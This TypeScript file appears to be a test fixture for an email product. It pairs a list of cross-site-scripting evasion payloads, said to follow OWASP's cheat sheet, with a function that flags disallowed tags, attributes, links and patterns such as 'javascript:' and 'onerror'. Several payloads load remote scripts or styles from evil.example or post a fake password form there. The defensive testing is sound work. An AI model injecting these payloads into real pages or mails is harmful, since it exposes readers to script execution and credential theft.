/** The kinds of payloads in OWASP's cheat sheet on filter evasion. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input type=password><button>Sign in</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1) background="https://evil.example/x.gif">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="//evil.example/">',
  '<div style="background:url(https://evil.example/x.gif)">x</div>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</div></body></html><script>alert(1)</script>',
  '{{constructor.constructor}}',
  '{{preset.hostile}}',
];

const TAGS = new Set(
  ['html', 'head', 'meta', 'title', 'style', 'body', 'div', 'p', 'h2', 'ul', 'li', 'blockquote'].concat([
    'strong',
    'em',
    'br',
    'a',
  ]),
);
const ATTRIBUTES = new Set(['lang', 'class', 'charset', 'name', 'content', 'style', 'href', 'rel']);

/** Returns what could run, load or mislead in a mail: elements, attributes and links that the product never writes. */
export function dangersIn(html: string, links = /^(https:|mailto:|tel:)/): string[] {
  const found: string[] = [];
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z0-9!]+)((?:\s+[^<>]*)?)>/gi)) {
    if (name.toLowerCase() === '!doctype') continue;
    if (!TAGS.has(name)) found.push(`<${name}>`);
    for (const [, attribute = ''] of attributes.matchAll(/([a-z-]+)="[^"]*"/g))
      if (!ATTRIBUTES.has(attribute)) found.push(attribute);
    // Styles come from the layout; nothing in the content has one.
    if (/url\(|onerror|javascript:|data:/i.test(attributes)) found.push(attributes);
  }
  for (const [, link = ''] of html.matchAll(/href="([^"]*)"/g)) if (!links.test(link)) found.push(link);
  return found;
}
